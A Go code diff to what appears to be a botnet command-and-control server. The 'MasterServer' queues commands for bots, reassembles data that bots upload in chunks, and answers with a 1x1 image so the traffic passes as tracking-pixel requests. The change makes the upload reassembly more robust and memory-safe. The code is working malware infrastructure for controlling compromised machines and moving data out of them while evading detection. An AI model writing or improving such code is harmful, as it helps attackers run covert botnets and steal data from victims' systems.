@@ -37,9 +37,9 @@ type MasterServer struct {
 
 	mu       sync.Mutex
 	nextID   int
-	commands map[string][]command           // bot → queued commands (ids ascending)
-	uploads  map[string]map[string][][]byte // bot → stream → ordered chunks
-	finished map[string]map[string]bool     // bot → stream → fin received
+	commands map[string][]command                 // bot → queued commands (ids ascending)
+	uploads  map[string]map[string]map[int][]byte // bot → stream → seq → chunk
+	finished map[string]map[string]bool           // bot → stream → fin received
 
 	observer func(Exchange)
 }
@@ -66,7 +66,7 @@ func NewMasterServer() *MasterServer {
 	return &MasterServer{
 		nextID:   1,
 		commands: make(map[string][]command),
-		uploads:  make(map[string]map[string][][]byte),
+		uploads:  make(map[string]map[string]map[int][]byte),
 		finished: make(map[string]map[string]bool),
 	}
 }
@@ -83,16 +83,23 @@ func (m *MasterServer) QueueCommand(bot string, payload []byte) int {
 	return id
 }
 
-// Upload returns the reassembled upstream payload of a finished stream.
+// Upload returns the reassembled upstream payload of a finished stream:
+// its chunks joined in ascending seq order.
 func (m *MasterServer) Upload(bot, stream string) ([]byte, bool) {
 	m.mu.Lock()
 	defer m.mu.Unlock()
 	if !m.finished[bot][stream] {
 		return nil, false
 	}
+	chunks := m.uploads[bot][stream]
+	seqs := make([]int, 0, len(chunks))
+	for seq := range chunks {
+		seqs = append(seqs, seq)
+	}
+	sort.Ints(seqs)
 	var out []byte
-	for _, chunk := range m.uploads[bot][stream] {
-		out = append(out, chunk...)
+	for _, seq := range seqs {
+		out = append(out, chunks[seq]...)
 	}
 	return out, true
 }
@@ -278,15 +285,17 @@ func (m *MasterServer) acceptUpload(dst []byte, bot, stream, seqStr, chunk strin
 	}
 	m.mu.Lock()
 	defer m.mu.Unlock()
-	if m.uploads[bot] == nil {
-		m.uploads[bot] = make(map[string][][]byte)
+	// Chunks are keyed by seq, never indexed by it: memory grows with the
+	// bytes received, not with the largest seq a request names.
+	streams := m.uploads[bot]
+	if streams == nil {
+		streams = make(map[string]map[int][]byte)
+		m.uploads[bot] = streams
 	}
-	chunks := m.uploads[bot][stream]
-	for len(chunks) <= seq {
-		chunks = append(chunks, nil)
+	if streams[stream] == nil {
+		streams[stream] = make(map[int][]byte)
 	}
-	chunks[seq] = data
-	m.uploads[bot][stream] = chunks
+	streams[stream][seq] = data
 	// Responding with a 1x1 image keeps the exchange looking like
 	// ordinary tracking-pixel traffic.
 	return svgBody(dst, Dim{W: 1, H: 1})
